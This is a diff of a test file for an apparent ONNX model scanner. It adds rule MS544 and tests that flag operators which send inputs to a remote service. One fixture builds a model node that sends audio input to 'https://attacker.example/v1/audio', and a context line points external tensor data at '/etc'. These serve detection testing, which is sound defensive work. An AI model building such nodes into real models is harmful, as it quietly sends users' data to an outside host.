@@ -16,6 +16,17 @@ EXAMPLES = {
     "MS541": _twins(onnx_model(tensors=[onnx_tensor("w", {"location": "w", "basepath": "/etc"})])),
     "MS542": _twins(onnx_model([onnx_node("PyOp", "ai.onnx.contrib")])),
     "MS543": _twins(onnx_model([onnx_node("GridSample3D", "mylib")])),
+    "MS544": _twins(
+        onnx_model(
+            [
+                onnx_node(
+                    "OpenAIAudioToText",
+                    "com.microsoft.extensions",
+                    data(5, data(1, "model_uri") + data(4, "https://attacker.example/v1/audio")),
+                )
+            ]
+        )
+    ),
 }
 
 
@@ -133,3 +144,13 @@ def test_operators_of_onnxruntime_extensions_are_noted_under_both_of_their_domai
     for domain in ("ai.onnx.contrib", "com.microsoft.extensions"):
         report = scan_files({"m.onnx": onnx_model([onnx_node("BertTokenizer", domain)])})
         assert [finding.rule.id for finding in report.findings] == ["MS543"]
+
+
+@pytest.mark.parametrize("name", ["AzureTextToText", "AzureAudioToText", "AzureTritonInvoker", "OpenAIAudioToText"])
+def test_operators_that_send_inputs_to_a_service_are_suspicious(name: str) -> None:
+    address = data(5, data(1, "model_uri") + data(4, "https://a.example/") + data(4, "https://b.example/"))
+    report = scan_files({"m.onnx": onnx_model([onnx_node(name, "com.microsoft.extensions", address)])})
+    found = next(finding for finding in report.findings if finding.rule.id == "MS544")
+    assert (report.verdict, found.evidence) == (Verdict.SUSPICIOUS, "https://b.example/")
+    assert verdict(onnx_model([onnx_node(name, "ai.onnx.contrib")])) is Verdict.SUSPICIOUS  # no address, or a built one
+    assert verdict(onnx_model([onnx_node(name, "my")])) is Verdict.CLEAN
